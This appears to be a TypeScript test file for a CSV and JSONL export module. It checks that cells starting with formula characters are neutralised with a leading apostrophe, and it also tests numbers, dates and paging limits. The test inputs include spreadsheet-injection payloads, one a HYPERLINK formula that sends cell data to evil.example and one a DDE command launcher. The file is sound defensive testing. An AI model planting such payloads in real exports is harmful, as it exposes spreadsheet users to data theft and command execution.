import fc from "fast-check";
import { expect, test } from "vitest";
import { z } from "zod";
import { inBatches, maxRows, pagesOf, type Row } from "./table";
import { rowLine, tablePieces } from "./write-row";

/** RFC 4180, read in the plainest way: rows of cells as they are written, without what quotes them. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at++) {
    const sign = text.charAt(at);
    if (isQuoted && sign === '"' && text.charAt(at + 1) === '"') {
      cell += '"';
      at++;
    } else if (sign === '"') isQuoted = !isQuoted;
    else if (!isQuoted && sign === ",") {
      row.push(cell);
      cell = "";
    } else if (!isQuoted && text.startsWith("\r\n", at)) {
      rows.push([...row, cell]);
      row = [];
      cell = "";
      at++;
    } else cell += sign;
  }
  return rows;
}

const csv = (row: Row) => rowLine(["a"], row, "csv");

test.each([
  "=1+1",
  '=HYPERLINK("http://evil.example?"&A1)',
  "+1",
  "-1",
  "@SUM(1)",
  " =1",
  "\t=1",
  "\r=1",
  "\n=1",
  "\u00a0=1",
  "\u200b=1",
  "\ufeff=1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "\tcmd",
  "=cmd|' /C calc'!A0",
])("no spreadsheet computes %j", (text) => {
  expect(readCsv(csv([text]))).toEqual([[`'${text}`]]);
});

test.each([
  "a=b",
  "1-2",
  "Mary",
  "",
  " Mary",
  "'=1",
  "\u{1f408}",
  "a\r\nb",
  'say "x", y',
  ";=1",
  "ann@b.example",
])("%j stands as it is", (text) => {
  expect(readCsv(csv([text]))).toEqual([[text]]);
  // A reader with another separator finds it quoted, too.
  expect(csv([text]).startsWith('"')).toBe(true);
});

test("numbers are read as the same numbers, negative ones too, and what is not known is an empty cell", () => {
  const numbers = [0.1 + 0.2, -1.5e-300, 3, -0.25];
  const [read = []] = readCsv(csv(numbers));
  expect(read.map(Number)).toEqual(numbers);
  expect(csv([null, Number.NaN, true, new Date(0), ["a", "=b"]])).toBe(
    ',,true,1970-01-01T00:00:00.000Z,"a; =b"\r\n',
  );
  expect(readCsv(csv([["=a", "b"]]))).toEqual([["'=a; b"]]);
});

test("whatever the cells hold, a row stays one row of as many cells, and JSON has the very texts", () => {
  const cells = fc.array(fc.string({ unit: "binary", maxLength: 20 }), { minLength: 1, maxLength: 5 });
  fc.assert(
    fc.property(cells, (row) => {
      const [read = [], ...others] = readCsv(csv(row));
      expect(others).toEqual([]);
      expect(read.map((cell, at) => (cell === row[at] ? cell : cell.slice(1)))).toEqual(row);
      const columns = row.map((_, at) => `c${at}`);
      const line = rowLine(columns, row, "jsonl");
      expect(line.indexOf("\n")).toBe(line.length - 1);
      expect(Object.values(JSON.parse(line))).toEqual(row);
    }),
  );
});

test("a list is read a page at a time, in its order, up to the most rows of a table", async () => {
  const read = async (cursor: number | undefined, limit: number) => {
    const from = cursor ?? 0;
    return { items: Array.from({ length: limit }, (_, n) => from + n), nextCursor: String(from + limit) };
  };
  const lines: string[] = [];
  for await (const piece of tablePieces(
    ["n"],
    pagesOf(z.coerce.number(), read, (n) => [n]),
    "csv",
  ))
    lines.push(...piece.split("\r\n").slice(0, -1));
  expect(lines).toHaveLength(maxRows + 1);
  expect([lines[0], lines[1], lines.at(-1)]).toEqual(['"n"', "0", String(maxRows - 1)]);
  let rows = 0;
  for await (const batch of inBatches(Array.from({ length: maxRows + 5 }), () => [1])) rows += batch.length;
  expect(rows).toBe(maxRows);
});
